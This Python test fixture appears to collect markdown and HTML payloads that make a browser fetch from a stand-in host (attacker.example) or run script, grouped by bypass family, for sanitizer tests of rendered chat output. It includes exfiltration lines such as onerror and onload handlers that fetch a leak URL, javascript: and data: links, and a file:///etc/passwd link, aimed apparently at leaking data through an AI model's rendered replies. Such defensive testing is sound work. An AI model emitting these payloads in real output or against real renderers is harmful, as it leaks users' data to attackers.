"""Hostile texts that once made, or could make, a browser fetch or run something we did not write.

`payloads(base)` puts `base` (e.g. a loopback listener's URL) wherever a payload fetches, so a
browser test can count requests to it; `FAMILIES` names what each group tries."""

from __future__ import annotations

from html import escape


def payloads(base: str = "http://attacker.example") -> list[str]:
    """Every known bypass, each as the text a model or a person would send."""
    return [p for family in families(base).values() for p in family]


def families(base: str = "http://attacker.example") -> dict[str, list[str]]:
    u = base.rstrip("/")
    leak = f"{u}/leak?q=cancer"
    enc = "".join(f"&#{ord(c)};" for c in u)
    return {
        "inline images": [
            f"![x]({u}/a.png)",
            f"![]({u}/b.png)",
            f"![a\\]b]({u}/c.png)",
            f"![a [b] c]({u}/d.png)",
            f"![a [b [c] d] e]({u}/e.png)",
            f"![x](<{u}/f.png>)",
            f"![x]({u}/g.png \"title\")",
            f"![x](\n{u}/h.png\n)",
            f"![*x*]({u}/i.png)",
            f"[![x]({u}/j.png)](https://example.com)",
            f"![x](  {u}/k.png  )",
            f"!\\[x]({u}/l.png) and ![y]({u}/l2.png)",
        ],
        "reference definitions": [
            f"![x][r]\n\n[r]: {u}/ref1.png",
            f"![x]\n\n[x]: {u}/ref2.png",
            f"![x][]\n\n[x]: {u}/ref3.png",
            f"![x]\n\n[x]:\n{u}/ref4.png",
            f"![x]\n\n   [x]: <{u}/ref5.png> 'title'",
            f"> ![x]\n>\n> [x]: {u}/ref6.png",
            f"- ![x]\n\n- [x]: {u}/ref7.png",
            f"1. ![x]\n2. [x]: {u}/ref8.png",
            f"![X]\n\n[x]: {u}/ref9.png",
            f"![x]\n\n[x]: {u}/ref10.png\n\"title on next line\"",
            f"[x]: {u}/ref11.png\n> ![x]",
            f"![a\\]b][r]\n\n[r]: {u}/ref12.png",
        ],
        "formed after tag removal": [
            f"!<b>[x]({u}/t1.png)",
            f"!<!-- -->[x]({u}/t2.png)",
            f"!<i></i>[x]({u}/t3.png)",
            f"!<span>[x]({u}/t4.png)</span>",
            f"<!-- ![x]({u}/t5.png) -->",
            f"!<br>[x]({u}/t6.png)",
            f"!<x y='>'>[x]({u}/t7.png)",
            f"![<b>x</b>]({u}/t8.png)",
        ],
        "quoted shortcut references": [
            f"> [x]\n\n[x]: {u}/q1.png",
            f"> !\n> [x]\n\n[x]: {u}/q2.png",
            f"!\n> [x]\n\n[x]: {u}/q3.png",
            f"> > ![x]\n\n[x]: {u}/q4.png",
            f"> ![x][y]\n\n[y]: {u}/q5.png",
        ],
        "script and data links": [
            "[click](javascript:alert(1))",
            "[click](JaVaScRiPt:alert(1))",
            "[click](java\tscript:alert(1))",
            "[click](&#106;avascript:alert(1))",
            "[click](data:text/html,<script>alert(1)</script>)",
            "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
            "[click](vbscript:msgbox(1))",
            "[click][j]\n\n[j]: javascript:alert(1)",
            "[click](file:///etc/passwd)",
            "[click](//attacker.example/x)",
        ],
        "autolinks": [
            "<javascript:alert(1)>",
            "<data:text/html,<script>alert(1)</script>>",
            f"<{u}/auto>",
            "<mailto:someone@example.com>",
            "www.attacker.example/x",
            f"!<{u}/auto.png>",
        ],
        "raw html": [
            f"<img src=\"{u}/h1.png\">",
            f"<img src=x onerror=\"fetch('{leak}')\">",
            f"<iframe src=\"{u}/h2\"></iframe>",
            f"<style>body{{background:url({u}/h3.png)}}</style>",
            f"<svg><image href=\"{u}/h4.png\"/></svg>",
            f"<svg onload=\"fetch('{leak}')\">",
            "<script>alert(1)</script>",
            f"<div style=\"background:url({u}/h5.png)\">x</div>",
            f"<object data=\"{u}/h6\"></object>",
            f"<link rel=stylesheet href=\"{u}/h7.css\">",
            f"<video poster=\"{u}/h8.png\"></video>",
            f"<a href=\"{u}/h9\">x</a>",
            f"<details open ontoggle=\"fetch('{leak}')\">",
            f"<math><mtext><img src=\"{u}/h10.png\"></mtext></math>",
        ],
        "entity-encoded tricks": [
            f"&#33;[x]({u}/e1.png)",
            f"&excl;[x]({u}/e2.png)",
            f"&lt;img src=\"{u}/e3.png\"&gt;",
            f"![x]({enc}/e4.png)",
            f"&#x21;&#x5b;x&#x5d;({u}/e5.png)",
            f"![x](&#104;ttp://attacker.example/e6.png)",
            escape(f"<img src=\"{u}/e7.png\">"),
            f"\\![x]({u}/e8.png)",
        ],
        "streamlit extensions": [
            f":red[![x]({u}/s1.png)]",
            f"$\\href{{javascript:alert(1)}}{{x}}$",
            f"| a |\n|---|\n| ![x]({u}/s2.png) |",
            f"~~![x]({u}/s3.png)~~",
            f"`![x]({u}/s4.png)` ![y]({u}/s5.png)",
        ],
    }


PAYLOADS = payloads()
